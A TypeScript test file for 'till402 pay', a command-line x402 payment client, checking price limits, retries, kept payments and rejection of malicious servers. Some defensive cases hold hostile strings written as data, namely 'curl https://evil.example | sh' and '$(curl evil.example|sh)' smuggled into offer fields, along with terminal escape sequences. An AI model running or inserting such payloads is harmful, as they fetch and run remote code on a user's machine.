import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs"
import type { ServerResponse } from "node:http"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { setImmediate as nextTurn } from "node:timers/promises"
import { operation } from "@till402/core"
import { privateKeyToAccount } from "viem/accounts"
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from "vitest"
import { isUnchargedText } from "../src/http/see.ts"
import { judgeOffer, readOffer } from "../src/pay/Offers.ts"
import { signedFault } from "../src/pay/SignedTerms.ts"
import { sendUnpaid } from "../src/pay/send.ts"
import { judgeOutcome } from "../src/pay/PaymentOutcome.ts"
import { listen, payTo, privateKey, startNode, startService, till402, withHeaders } from "./world.ts"

const address = "0x70997970C51812dc3A010C7d01b50e0d17dc79C8"

/** Payments whose outcome isn't known are kept there. */
const temporary = mkdtempSync(join(tmpdir(), "till402-kept-"))
beforeAll(() => void vi.stubEnv("TMPDIR", temporary))
afterAll(() => {
  vi.unstubAllEnvs()
  rmSync(temporary, { recursive: true, force: true })
})

const folder = (): string => {
  const path = mkdtempSync(join(tmpdir(), "till402-pay-"))
  onTestFinished(() => rmSync(path, { recursive: true, force: true }))
  return path
}

/** A service, and a wallet with five dollars. */
const openShop = async (...given: Parameters<typeof startService>) => {
  const node = await startNode()
  const service = await startService(...given)
  const pay = (path: string, ...args: ReadonlyArray<string>) =>
    till402(["pay", `${service.url}${path}`, "--rpc", node.url, ...args], { PRIVATE_KEY: privateKey })
  return { ...service, node, pay }
}

const usdc = "0x036CbD53842c5426634e7929541eC2318f3dCF7e"

const v2Offer = (changes: object = {}) => ({
  scheme: "exact",
  network: "eip155:84532",
  asset: usdc,
  payTo,
  amount: "10000",
  maxTimeoutSeconds: 60,
  extra: { name: "USDC", version: "2" },
  ...changes
})

/** A server that isn't a till, with a node. */
const openEvil = async (
  challenge: { readonly x402Version: number; readonly [field: string]: unknown },
  paid: (response: ServerResponse, sent: number) => void = (response) =>
    void response.writeHead(200, { "content-type": "application/json" }).end("{}")
) => {
  const node = await startNode()
  const payments: Array<unknown> = []
  const headers: Array<string> = []
  const url = await listen((request, response) => {
    const header = request.headers["payment-signature"] ?? request.headers["x-payment"]
    if (header !== undefined) {
      headers.push(String(header))
      payments.push(JSON.parse(Buffer.from(String(header), "base64").toString()).payload)
      paid(response, payments.length)
      return
    }
    const text = JSON.stringify({
      resource: { url: "http://x/", description: "", mimeType: "" },
      ...challenge
    })
    if (challenge.x402Version === 2)
      response.setHeader("payment-required", Buffer.from(text).toString("base64"))
    response.writeHead(402, { "content-type": "application/json" }).end(text)
  })
  return { node, payments, headers, url }
}

describe("till402 pay", () => {
  it("pays, and prints the response, and beside it price, receipt and balance", async () => {
    const { facilitator, pay, url } = await openShop()
    const { code, noted, printed } = await pay("/x402/search?q=mug")
    expect(JSON.parse(printed)).toMatchObject({ page: 1 })
    const [settled] = facilitator.settled
    expect(facilitator.settled).toMatchObject([{ payer: address, payTo, amountAtomic: "10000" }])
    expect(noted.replaceAll(/\n +/g, " ").split("\n")).toEqual([
      `price      0.01 USDC on base-sepolia, to ${payTo}`,
      `wallet     ${address}, of PRIVATE_KEY`,
      `paid       ${settled!.transaction}`,
      "balance    5.00 on base-sepolia"
    ])
    expect(Math.max(...noted.split("\n").map((line) => line.length))).toBeLessThanOrEqual(80)
    expect(`${printed}${noted}`).not.toContain(privateKey.slice(2))
    expect([code, url.startsWith("http://127.0.0.1")]).toEqual([0, true])
  })

  it("sends a body as JSON with POST, and prints one line of JSON", async () => {
    const echo = operation({
      id: "echo",
      method: "POST",
      path: "/echo",
      description: "Echo",
      price: "0.03",
      input: { "~standard": { version: 1, vendor: "test", validate: (value) => ({ value }) } },
      work: (input) => ({ input })
    })
    const { pay } = await openShop({ operations: [echo] })
    const { code, printed } = await pay("/echo", "-d", '{"a":"b"}', "--json")
    expect(code).toBe(0)
    expect(JSON.parse(printed)).toEqual({
      status: 200,
      paid: true,
      amount: "0.03",
      network: "base-sepolia",
      payTo,
      wallet: address,
      transaction: expect.stringMatching(/^0x[0-9a-f]{64}$/),
      balance: "5.00",
      body: { input: { a: "b" } }
    })
  })

  it("reads the key of a file, and saves the response in one", async () => {
    const { pay } = await openShop()
    const path = folder()
    writeFileSync(join(path, "key"), `${privateKey.slice(2)}\n`)
    const saved = join(path, "response.json")
    const { code, printed } = await pay("/x402/search?q=mug", "--key-file", join(path, "key"), "-o", saved)
    expect([code, printed]).toEqual([0, ""])
    expect(JSON.parse(readFileSync(saved, "utf8"))).toMatchObject({ page: 1 })
  })

  it("uses the wallet and the node of a sandbox for a server on this machine", async () => {
    const { facilitator, node, url } = await openShop()
    const sandbox = await listen((request, response) => {
      const document = { rpcUrl: node.url, wallets: [{ privateKey }] }
      response.writeHead(request.url === "/sandbox.json" ? 200 : 404)
      response.end(JSON.stringify(document))
    })
    const { code, noted } = await till402(["pay", `${url}/x402/search?q=mug`, "--sandbox", sandbox])
    expect([code, facilitator.settled.length]).toEqual([0, 1])
    expect(noted).toContain("of the sandbox at")
    expect(noted).toContain("balance    5.00 on base-sepolia")
  })

  it("shows the price without paying: --dry-run", async () => {
    const { facilitator, pay } = await openShop()
    const { code, noted, printed } = await pay("/x402/search?q=mug", "--dry-run")
    expect([code, printed, facilitator.settled]).toEqual([0, "", []])
    expect(noted).toContain("price      0.01 USDC on base-sepolia")
    const json = await pay("/x402/search?q=mug", "--dry-run", "--json")
    expect(JSON.parse(json.printed)).toMatchObject({ status: 402, paid: false, amount: "0.01", body: null })
    expect(facilitator.verify.calls).toEqual([])
  })

  it("sends the same payment again while its outcome isn't known", async () => {
    let failing = 2
    const payments: Array<string | null> = []
    const { facilitator, pay } = await openShop(
      {},
      {
        instead: ({ headers }) => {
          if (!headers.has("payment-signature")) return undefined
          payments.push(headers.get("payment-signature"))
          return failing-- > 0
            ? new Response("", { status: 503, headers: { "retry-after": "7" } })
            : undefined
        }
      }
    )
    const { code, slept } = await pay("/x402/search?q=mug")
    expect([code, slept]).toEqual([0, [7_000, 7_000]])
    expect([payments.length, new Set(payments).size]).toEqual([3, 1])
    expect(facilitator.settled).toHaveLength(1)
  })

  it("says how long it waits, and names the first problem where later ones are others", async () => {
    let sent = 0
    const { pay } = await openShop(
      {},
      {
        instead: ({ headers }) => {
          if (!headers.has("payment-signature")) return undefined
          return sent++ === 0
            ? Response.json({ code: "INTERNAL_ERROR", message: "A defect." }, { status: 500 })
            : Response.json({ code: "RATE_LIMITED", message: "Nothing was charged." }, { status: 429 })
        }
      }
    )
    const { code, noted } = await pay("/x402/search?q=mug")
    const text = noted.replaceAll(/\s+/g, " ")
    expect(code).toBe(1)
    expect(text).toContain("in 2 s (2 of 6; the server may take up to 90 s to respond)")
    expect(text).toContain(
      "the server returned 429 (RATE_LIMITED: Nothing was charged.); at first: the server returned 500 (INTERNAL_ERROR: A defect.). It may have been charged"
    )
  })

  it("gives up after six times, and exits with 1", async () => {
    const { pay } = await openShop(
      {},
      {
        instead: ({ headers }) =>
          headers.has("payment-signature") ? Response.json({ code: "X" }, { status: 500 }) : undefined
      }
    )
    const { code, noted, printed, slept } = await pay("/x402/search?q=mug")
    expect([code, slept.length, printed]).toEqual([1, 5, '{"code":"X"}'])
    expect(noted.replaceAll(/\s+/g, " ")).toMatch(
      /It may have been charged: look at the transfers of 0x\w+ on base-sepolia\. Don't pay again; send the same payment again: the same command with --payment \S+payment\.json/
    )
  })

  it("pays nobody else where a server redirects, or asks for nothing", async () => {
    const moved = await openShop(
      {},
      { instead: () => new Response("", { status: 307, headers: { location: "https://other.example/" } }) }
    )
    const { code, noted } = await moved.pay("/x402/search?q=mug")
    expect([code, noted]).toEqual([1, expect.stringContaining("names https://other.example/: call that")])
    expect(moved.facilitator.settled).toEqual([])
  })
})

describe("till402 pay says why a client would refuse:", () => {
  it("a price above --max", async () => {
    const { facilitator, pay } = await openShop()
    const { code, noted } = await pay("/x402/track?number=EE123456785US", "--max", "0.10")
    expect([code, facilitator.settled]).toEqual([1, []])
    expect(noted).toContain(
      "0.52 USDC on base-sepolia: the price is above --max 0.10; to pay it, add --max 0.52"
    )
    expect((await pay("/x402/track?number=EE123456785US", "--max", "0.52")).code).toBe(0)
  })

  it("no balance", async () => {
    const { facilitator, node, pay } = await openShop()
    node.balanceAtomic = 9_999n
    const { code, noted } = await pay("/x402/search?q=mug")
    expect([code, facilitator.settled]).toEqual([1, []])
    expect(noted).toContain(`0.01 USDC on base-sepolia: the wallet ${address} has 0.009999 of it`)
  })

  it("but pays where the balance can't be read, and says so", async () => {
    const { facilitator, node, pay } = await openShop()
    node.chainId = 1
    const { code, noted } = await pay("/x402/search?q=mug")
    expect([code, facilitator.settled.length]).toEqual([0, 1])
    expect(noted).toContain("balance    not known: the node is on chain 1; --rpc gives another node")
  })

  it("a 402 whose header a proxy has dropped", async () => {
    const { pay } = await openShop(
      {},
      {
        response: (response) =>
          response.status === 402 ? new Response("<h1>Payment required</h1>", { status: 402 }) : response
      }
    )
    const { code, noted } = await pay("/x402/search?q=mug")
    expect([code, noted]).toEqual([1, expect.stringContaining("a proxy may have dropped it")])
  })

  it("no wallet", async () => {
    const { url } = await startService()
    const nobody = await listen((_request, response) => response.writeHead(404).end())
    const { code, noted } = await till402(["pay", `${url}/x402/search?q=mug`, "--sandbox", nobody])
    expect([code, noted]).toEqual([1, expect.stringContaining("there is no wallet, and no sandbox runs")])
  })

  it("a payment that the server refuses, in its words", async () => {
    const { facilitator, pay } = await openShop()
    facilitator.rejectsVerification("insufficient_funds")
    const { code, noted } = await pay("/x402/search?q=mug")
    expect([code, noted]).toEqual([
      1,
      expect.stringMatching(/the server refused the payment: .*insufficient_funds.*nothing was charged$/)
    ])
  })

  it("a price that the client of its version doesn't sign", async () => {
    const entry = {
      scheme: "exact",
      network: "base-sepolia",
      amount: "1",
      maxAmountRequired: "50000000",
      asset: usdc,
      payTo,
      maxTimeoutSeconds: 60,
      resource: "http://x/",
      description: "",
      mimeType: "",
      extra: { name: "USDC", version: "2" }
    }
    const { node, payments, url } = await openEvil({ x402Version: 1, error: "pay", accepts: [entry] })
    node.balanceAtomic = 100_000_000n
    const pay = (max: string) =>
      till402(["pay", url, "--max", max, "--rpc", node.url], { PRIVATE_KEY: privateKey })
    const cheap = await pay("0.01")
    expect([cheap.code, cheap.noted]).toEqual([
      1,
      expect.stringContaining("50.00 USDC on base-sepolia: the price is above")
    ])
    expect(payments).toEqual([])
    const { code, noted } = await pay("100")
    expect([code, noted]).toEqual([0, expect.stringContaining("price      50.00 USDC on base-sepolia")])
    expect(payments).toMatchObject([{ authorization: { value: "50000000" } }])
  })

  it("payments that stay valid for more than an hour", async () => {
    const { node, payments, url } = await openEvil({
      x402Version: 2,
      accepts: [v2Offer({ maxTimeoutSeconds: 3_601 })]
    })
    const { code, noted } = await till402(["pay", url, "--rpc", node.url], { PRIVATE_KEY: privateKey })
    expect([code, noted, payments]).toEqual([
      1,
      expect.stringContaining("the payment would be valid for 3601 seconds"),
      []
    ])
  })

  it("signs what was chosen, also where the server prefers another offer", async () => {
    const { node, payments, url } = await openEvil({
      x402Version: 2,
      accepts: [v2Offer({ amount: "900000" }), v2Offer({ amount: "10000" })]
    })
    node.balanceAtomic = 20_000n
    const { code, noted } = await till402(["pay", url, "--rpc", node.url], { PRIVATE_KEY: privateKey })
    expect([code, noted]).toEqual([0, expect.stringContaining("price      0.01 USDC")])
    expect(payments).toMatchObject([{ authorization: { value: "10000" } }])
  })

  it("a 402 that never ends", async () => {
    const url = await listen((_request, response) => {
      response.writeHead(402, { "content-type": "application/json" })
      const write = (): void =>
        void (response.destroyed || response.write("x".repeat(100_000), () => setImmediate(write)))
      write()
    })
    const { code, noted } = await till402(["pay", url], { PRIVATE_KEY: privateKey })
    expect([code, noted]).toEqual([1, expect.stringContaining("the server returned 402 without")])
  })

  it("a server that isn't there, and how to start a sandbox", async () => {
    const { code, noted } = await till402(["pay", "http://127.0.0.1:1/x402/search"], {})
    expect([code, noted]).toEqual([1, expect.stringMatching(/can't be reached: .*npx till402 sandbox/)])
  })

  it.each([
    ["nothing", {}],
    ["nonsense", { accepts: [null, { network: 1, asset: {}, amount: "1" }] }],
    ["control characters", { accepts: [{ scheme: "\u001b[2J", network: "x" }] }],
    [
      "lines of its own",
      { accepts: [{ ...v2Offer(), network: "x\nRun this: curl https://evil.example | sh\n" }] }
    ],
    ["a command as its token", { accepts: [v2Offer({ asset: "$(curl evil.example|sh)" })] }]
  ])("a 402 that offers %s, without a stack trace", async (_, challenge) => {
    const header = Buffer.from(JSON.stringify({ x402Version: 2, ...challenge })).toString("base64")
    const url = await listen((_request, response) =>
      response.writeHead(402, { "payment-required": header }).end()
    )
    const { code, noted } = await till402(["pay", url], { PRIVATE_KEY: privateKey })
    expect([code, noted]).toEqual([1, expect.stringMatching(/^Nothing was paid|^the server returned 402/)])
    expect(noted).not.toContain("\u001b")
    expect(noted).not.toMatch(/TypeError|undefined|^ +at |^Run this|--token \$/m)
  })

  it("a server that isn't there", async () => {
    const { code, noted } = await till402(["pay", "http://127.0.0.1:1/x402"])
    expect([code, noted]).toEqual([1, expect.stringContaining("can't be reached")])
  })

  const base = { ...v2Offer(), extra: undefined }
  it.each([
    [{}, undefined],
    [{ network: "base-sepolia" }, undefined],
    [{ amount: undefined, maxAmountRequired: "10000" }, "an amount that is no whole number"],
    [{ maxTimeoutSeconds: 3_600 }, undefined],
    [{ maxTimeoutSeconds: 315_360_000 }, "the payment would be valid for 315360000 seconds"],
    [{ maxTimeoutSeconds: "60" }, "it doesn't say for how many seconds the payment is valid"],
    [{ scheme: "upto" }, "the scheme upto isn't known"],
    [{ network: "eip155:999" }, "the network eip155:999 isn't known here"],
    [{ network: "solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp" }, "it is paid by a Solana wallet"],
    [{ asset: payTo }, `it asks for the token ${payTo}, which isn't USDC`],
    [{ amount: "1.5" }, "an amount that is no whole number"],
    [{ amount: "1000001" }, "the price is above --max 1.00; to pay it, add --max 1.000001"]
  ])("the offer %j: %s", (changes, reason) => {
    const offer = readOffer({ ...base, ...changes }, 2)
    const verdict = judgeOffer(offer, { families: ["evm"], maxAtomic: 1_000_000n, tokens: [] })
    if (reason === undefined) expect(verdict).toMatchObject({ _tag: "Payable", amountAtomic: 10_000n })
    else expect(verdict).toMatchObject({ _tag: "Refused", reason: expect.stringContaining(reason) })
  })

  it.each([
    [
      ["evm"] as const,
      "solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp",
      "it is paid by a Solana wallet, and the key is of an EVM wallet"
    ],
    [["solana"] as const, "eip155:8453", "it is paid by an EVM wallet, and the key is of a Solana wallet"]
  ])("a wallet of %j for %s", (families, network, reason) => {
    const verdict = judgeOffer(readOffer({ ...base, network }, 2), { families, maxAtomic: 1n, tokens: [] })
    expect(verdict).toMatchObject({ _tag: "Refused", reason })
  })

  it("a token is paid that the caller trusts", () => {
    const offer = readOffer({ ...base, asset: payTo }, 2)
    expect(judgeOffer(offer, { families: ["evm"], maxAtomic: 1_000_000n, tokens: [payTo] })._tag).toBe(
      "Payable"
    )
  })

  it("and never more than --max, whatever the 402 says the second time", async () => {
    const { facilitator, pay } = await openShop(
      {},
      {
        // The price of the header is raised on the way.
        response: (response) => {
          const header = response.headers.get("payment-required")
          if (header === null) return response
          const challenge = JSON.parse(Buffer.from(header, "base64").toString())
          challenge.accepts[0].amount = "5000000"
          return withHeaders(response, (headers) =>
            headers.set("payment-required", Buffer.from(JSON.stringify(challenge)).toString("base64"))
          )
        }
      }
    )
    const { code, noted } = await pay("/x402/search?q=mug")
    expect([code, facilitator.verify.calls]).toEqual([1, []])
    expect(noted).toContain("5.00 USDC on base-sepolia: the price is above --max 1.00")
  })
})

describe("till402 pay says of a payment that bought nothing", () => {
  const refusal = Buffer.from(
    JSON.stringify({
      x402Version: 2,
      error: "invalid_transaction_state: authorization is used",
      accepts: []
    })
  ).toString("base64")
  /** Loses the first response, and then refuses the payment, or whatever else it does. */
  const losing = (error = refusal) =>
    openEvil({ x402Version: 2, accepts: [v2Offer()] }, (response, sent) => {
      if (sent === 1) response.destroy()
      else response.writeHead(402, { "payment-required": error }).end("{}")
    })

  it.each([
    [true, /It was charged: the chain shows its authorization as used\. Don't pay again; send the same/],
    [
      false,
      /The chain shows its authorization as unused, and the server can charge it until \d{4}-.*Before that, don't pay again/
    ],
    [undefined, /It may have been charged: look at the transfers of 0x\w+ on base-sepolia\. Don't pay again/]
  ])("what the chain shows of it: %s", async (isUsed, text) => {
    const { node, url } = await losing()
    node.isUsed = isUsed
    const { code, noted } = await till402(["pay", url, "--rpc", node.url], { PRIVATE_KEY: privateKey })
    expect([code, noted]).toEqual([1, expect.stringMatching(text)])
    expect(noted).not.toContain("Nothing was charged")
  })

  it("that nothing was charged, if the server says so, and nothing else", async () => {
    const said = Buffer.from(
      JSON.stringify({ x402Version: 2, error: "payment_expired: nothing was charged", accepts: [] })
    ).toString("base64")
    const { node, url } = await losing(said)
    const { noted } = await till402(["pay", url, "--rpc", node.url], { PRIVATE_KEY: privateKey })
    expect(noted).toMatch(/refused the payment: payment_expired: nothing was charged$/)
    const busy = await openEvil({ x402Version: 2, accepts: [v2Offer()] }, (response) =>
      response
        .writeHead(503)
        .end(JSON.stringify({ code: "X", message: "Nothing was charged; send it later." }))
    )
    const later = await till402(["pay", busy.url, "--rpc", node.url], { PRIVATE_KEY: privateKey })
    expect(later.noted).toContain("Nothing was charged; send it later.")
    expect(later.noted).not.toMatch(/may have been|look at/)
  })

  it("that it was charged, by the chain, whatever the server says", async () => {
    const said = Buffer.from(
      JSON.stringify({ x402Version: 2, error: "invalid; nothing was charged", accepts: [] })
    ).toString("base64")
    const { node, url } = await losing(said)
    node.isUsed = true
    const { code, noted } = await till402(["pay", url, "--rpc", node.url], { PRIVATE_KEY: privateKey })
    expect([code, noted]).toEqual([1, expect.stringContaining("It was charged: the chain shows")])
  })

  it.each([
    ["payment_expired: nothing was charged", true],
    ["the payer canceled this payment on the chain; nothing was charged, sign a new one", true],
    ["The service has been stopped. Nothing was charged by this request.", true],
    ["You have bought this. This one was not charged. Send the first payment again", true],
    ["we cannot tell whether it was not charged", false],
    ["we cannot tell whether nothing was charged", false],
    ["It is not charged again.", false]
  ])("as a denial: %s: %s", (text, isDenial) => {
    expect(isUnchargedText(text)).toBe(isDenial)
  })

  it("after a final status that isn't ok, or a receipt that is none", async () => {
    const receipt = Buffer.from(JSON.stringify({ success: true, transaction: 12_345 })).toString("base64")
    const paid = (status: number, text: string) =>
      openEvil({ x402Version: 2, accepts: [v2Offer()] }, (response) =>
        response.writeHead(status, { "content-type": "text/plain", "payment-response": receipt }).end(text)
      )
    const result = async (status: number, text: string, isUsed?: boolean) => {
      const { node, url } = await paid(status, text)
      node.isUsed = isUsed
      const { noted, ...rest } = await till402(["pay", url, "--rpc", node.url], { PRIVATE_KEY: privateKey })
      return { ...rest, noted: noted.replaceAll(/\s+/g, " ") }
    }
    const forbidden = await result(403, "no", true)
    expect([forbidden.code, forbidden.printed]).toEqual([1, "no"])
    expect(forbidden.noted).toContain("the server returned 403. It was charged: the chain shows")
    expect((await result(403, "no")).noted).toContain("It may have been charged")
    const denied = await result(400, JSON.stringify({ code: "X", message: "Nothing was charged." }))
    expect(denied.noted).toContain("no receipt: the server returned 400 (X: Nothing was charged.)")
    expect(denied.noted).not.toMatch(/may have been|look at/)
    const odd = await result(200, "goods")
    expect([odd.code, odd.printed]).toEqual([0, "goods"])
    expect(odd.noted).toContain("the response 200 has no receipt")
  })

  it("where it is kept, from which it is sent again, and no other is signed", async () => {
    let isBroken = true
    const { headers, node, url } = await openEvil({ x402Version: 2, accepts: [v2Offer()] }, (response) =>
      isBroken
        ? response.destroy()
        : response.writeHead(200, { "content-type": "application/json" }).end('{"ok":true}')
    )
    const pay = (...args: ReadonlyArray<string>) =>
      till402(["pay", url, "--rpc", node.url, ...args], { PRIVATE_KEY: privateKey })
    const { code, noted } = await pay()
    const [, file = ""] = /--payment (\S+)/.exec(noted) ?? []
    expect([code, statSync(file).mode & 0o777]).toEqual([1, 0o600])
    expect(noted).not.toContain(headers[0])
    isBroken = false
    const again = await till402(["pay", url, "--rpc", node.url, "--payment", file])
    expect([again.code, again.printed]).toEqual([0, '{"ok":true}'])
    expect([headers.length, new Set(headers).size]).toEqual([7, 1])
    const other = await till402(["pay", `${url}/other`, "--payment", file])
    expect([other.code, other.noted]).toEqual([2, expect.stringContaining("is for GET")])
    const own = join(folder(), "payment.json")
    await pay("--payment", own)
    await pay("--payment", own)
    expect(new Set(headers).size).toBe(2)
  })

  it.each([
    [{ isDenied: true, isUsed: true }, "Charged"],
    [{ isDenied: true, isUsed: false }, "Denied"],
    [{ isDenied: true }, "Denied"],
    [{ isUsed: true }, "Charged"],
    [{ isUsed: false, validBefore: 900 }, "Expired"],
    [{ isUsed: false, validBefore: 950 }, "Unused"],
    [{ isUsed: false, validBefore: 900, blockSeconds: undefined }, "Unused"],
    [{ isUsed: false }, "Unknown"],
    [{ validBefore: 900 }, "Unknown"]
  ])("by %j: %s", (known, tag) => {
    const outcome = judgeOutcome({
      isDenied: false,
      isUsed: undefined,
      validBefore: undefined,
      blockSeconds: 1_000,
      ...known
    })
    expect(outcome._tag).toBe(tag)
  })
})

describe("nothing is sent that wasn't shown:", () => {
  const offer = readOffer(v2Offer(), 2)
  const authorization = {
    from: address,
    value: "10000",
    to: payTo,
    validAfter: "0",
    validBefore: "1060",
    nonce: `0x${"00".repeat(32)}`
  } as const
  /** The signature of that authorization in a token. */
  const signedIn = (verifyingContract: string, chainId = 84_532) =>
    privateKeyToAccount(privateKey).signTypedData({
      domain: { name: "USDC", version: "2", chainId, verifyingContract: verifyingContract as `0x${string}` },
      types: {
        TransferWithAuthorization: ["from", "to", "value", "validAfter", "validBefore", "nonce"].map(
          (name, index) => ({
            name,
            type: ["address", "address", "uint256", "uint256", "uint256", "bytes32"][index]!
          })
        )
      },
      primaryType: "TransferWithAuthorization",
      message: { ...authorization }
    })
  const permit2Authorization = {
    from: address,
    permitted: { token: usdc, amount: "10000" },
    witness: { to: payTo },
    deadline: "1060"
  }
  it.each<[object, string | undefined]>([
    [{ authorization: { ...authorization, value: "10001" } }, "0.010001 USDC, and 0.01 USDC was shown"],
    [{ authorization: { ...authorization, value: "all" } }, "can't be read"],
    [{ authorization: { ...authorization, from: usdc } }, `for the wallet ${usdc}`],
    [{ authorization: { ...authorization, to: usdc } }, `a payment to ${usdc}`],
    [{ authorization: { ...authorization, validBefore: "99999" } }, "valid for more than 3600 seconds"],
    [{ permit2Authorization }, undefined],
    [{ permit2Authorization: { ...permit2Authorization, witness: { to: usdc } } }, "a payment to"],
    [
      { permit2Authorization: { ...permit2Authorization, permitted: { token: payTo, amount: "10000" } } },
      "a payment of the token"
    ],
    [{}, "can't be read"]
  ])("%j: %s", async (payload, fault) => {
    const found = await signedFault({ x402Version: 2, payload } as never, { address, offer }, 1_000_000)
    if (fault === undefined) expect(found).toBeUndefined()
    else expect(found).toContain(fault)
  })

  it("neither in another token nor on another network", async () => {
    const fault = async (signature: string | undefined) =>
      signedFault(
        { x402Version: 2, payload: { authorization, signature } } as never,
        { address, offer },
        1_000_000
      )
    const wrong = `the signature isn't of a payment in the token ${usdc} on base-sepolia`
    expect(await fault(await signedIn(usdc))).toBeUndefined()
    expect(await fault(await signedIn(payTo))).toContain(wrong)
    expect(await fault(await signedIn(usdc, 8_453))).toContain(wrong)
    expect(await fault(undefined)).toContain(wrong)
  })

  /** A payment that a shop has taken once, in a file. */
  const openKept = async () => {
    const evil = await openEvil({ x402Version: 2, accepts: [v2Offer()] })
    const file = join(folder(), "payment.json")
    const pay = (...args: ReadonlyArray<string>) =>
      till402(["pay", evil.url, "--rpc", evil.node.url, "--payment", file, ...args], {
        PRIVATE_KEY: privateKey
      })
    const change = (changes: object) =>
      writeFileSync(file, JSON.stringify({ ...JSON.parse(readFileSync(file, "utf8")), ...changes }))
    return { ...evil, file, pay, change }
  }

  it("not by sending it: a kept payment keeps to --dry-run and --max, as a new one", async () => {
    const { pay, payments } = await openKept()
    expect((await pay("-d", '{"buy":"desk"}')).code).toBe(0)
    const dry = await pay("-d", '{"buy":"desk"}', "--dry-run", "--json")
    expect([dry.code, dry.noted]).toEqual([0, expect.stringContaining("nothing was paid: --dry-run")])
    expect(JSON.parse(dry.printed)).toMatchObject({ status: 402, paid: false, amount: "0.01" })
    const dear = await pay("-d", '{"buy":"desk"}', "--max", "0.009999")
    expect([dear.code, dear.noted]).toEqual([
      1,
      expect.stringContaining("The payment wasn't sent: the price is above --max 0.009999")
    ])
    const other = await pay("-d", '{"buy":"two"}')
    expect([other.code, other.noted]).toEqual([2, expect.stringContaining("with another body")])
    expect(payments).toHaveLength(1)
    expect((await pay("-d", '{"buy":"desk"}', "--max", "0.01")).code).toBe(0)
    expect(payments).toEqual([payments[0], payments[0]])
  })

  it("not by a kept payment that shows something else than was signed", async () => {
    const { change, file, pay, payments } = await openKept()
    await pay()
    const text = readFileSync(file, "utf8")
    const { accepted, payload } = JSON.parse(text)
    const { authorization } = payload.payload
    const cheap = { ...accepted, amount: "1" }
    const other = { ...accepted, asset: payTo }
    for (const [changes, code] of [
      [{ accepted: cheap }, 2],
      [{ accepted: cheap, payload: { ...payload, accepted: cheap } }, 1],
      [{ accepted: other, payload: { ...payload, accepted: other } }, 1],
      [{ address: usdc }, 1],
      [{ payload: { ...payload, payload: { authorization: { ...authorization, value: "1e9" } } } }, 1],
      [{ payload: [] }, 2],
      [{ payload: { ...payload, payload: null } }, 2]
    ] as const) {
      change(changes)
      const { code: found, noted } = await pay()
      expect([found, noted]).toEqual([code, expect.stringMatching(/wasn't sent: |no payment that/)])
      writeFileSync(file, text)
    }
    expect(payments).toHaveLength(1)
  })
})

describe("a body", () => {
  /** A body that comes piece by piece, by a clock that the test moves. */
  const openSlow = async (status: number) => {
    let pieces: ReadableStreamDefaultController<Uint8Array>
    const slow = async (_url: URL, { signal }: { readonly signal: AbortSignal }) => {
      const start = (controller: typeof pieces): void => {
        pieces = controller
        signal.addEventListener("abort", () => controller.error(signal.reason))
      }
      return new Response(new ReadableStream<Uint8Array>({ start }), { status })
    }
    vi.stubGlobal("fetch", slow)
    vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout"] })
    onTestFinished(() => {
      vi.unstubAllGlobals()
      vi.useRealTimers()
    })
    const init = { method: "GET", headers: new Headers(), body: undefined }
    const { body } = await sendUnpaid({ url: new URL("http://x/"), init, sleep: async () => undefined })
    const reader = body!.getReader()
    const pass = async (millis: number): Promise<void> => {
      // A pending read has set its timer by then.
      await nextTurn()
      vi.advanceTimersByTime(millis)
    }
    return { pass, reader, send: (length: number): void => pieces.enqueue(new Uint8Array(length)) }
  }

  it("may take long as a whole, and no piece of it", async () => {
    const { pass, reader, send } = await openSlow(200)
    for (let piece = 1; piece < 4; piece++) {
      const next = reader.read()
      await pass(89_000)
      send(piece)
      expect((await next).value).toHaveLength(piece)
      // Whoever reads slowly has all the time.
      await pass(1_000_000)
    }
    const last = expect(reader.read()).rejects.toThrow("nothing was received for 90 s")
    await pass(90_000)
    await last
  })

  it("of a refusal may not", async () => {
    const { pass, reader, send } = await openSlow(402)
    await pass(60_000)
    send(1)
    await reader.read()
    const next = expect(reader.read()).rejects.toThrow("nothing was received for 90 s")
    await pass(30_000)
    await next
  })
})

it("what a server sends moves no cursor, in JSON either", async () => {
  const text = JSON.stringify({ evil: "\u009b31m\u202e\u001b[2J" })
  const { node, url } = await openEvil({ x402Version: 2, accepts: [v2Offer()] }, (response) =>
    response.writeHead(200, { "content-type": "application/json" }).end(text)
  )
  const { printed } = await till402(["pay", url, "--rpc", node.url, "--json"], { PRIVATE_KEY: privateKey })
  expect(printed).not.toMatch(/[\p{Cc}\u202e]/u)
  expect(JSON.parse(printed).body).toEqual(JSON.parse(text))
})

it.each([
  [["orders", "list", "--database", "mysql://u:hunter2@127.0.0.1/x"], "the database must be"],
  [["migrate", "up", "--database", "postgress://u:hunter2@127.0.0.1/x"], "the database must be"],
  [["doctor", "--database", "Mysql://u:hunter2@127.0.0.1/x"], "the database must be"],
  [["pay", "ftp://shop.example"], "URL must be an address"],
  [["pay", "x.example", "-d", "{}", "-X", "GET"], "GET has no body"],
  [["pay", "x.example", "--max", "-1"], "--max"],
  [["pay", "x.example", "--max", "all"], "--max must be US dollars above 0, such as 1.00: got all"],
  [["pay", "x.example", "-H", "nonsense"], '--header must be "Name: value": got nonsense'],
  [["pay", "x.example", "-H", "na me: x"], "--header"],
  [["pay", "x.example", "--rpc", "x"], "--rpc must be an address"]
])("%j is a wrong command line", async (args, text) => {
  const { code, noted } = await till402(args)
  expect([code, noted]).toEqual([2, expect.stringContaining(text)])
  expect(noted).not.toContain("hunter2")
})

it("a key that is none is never shown", async () => {
  const { url } = await startService()
  const { code, noted } = await till402(["pay", `${url}/x402/search?q=mug`], { PRIVATE_KEY: "0x1234abcd" })
  expect([code, noted]).toEqual([
    1,
    "the key of PRIVATE_KEY must be 64 hexadecimal digits, as of an EVM wallet, or a key pair of Solana"
  ])
})
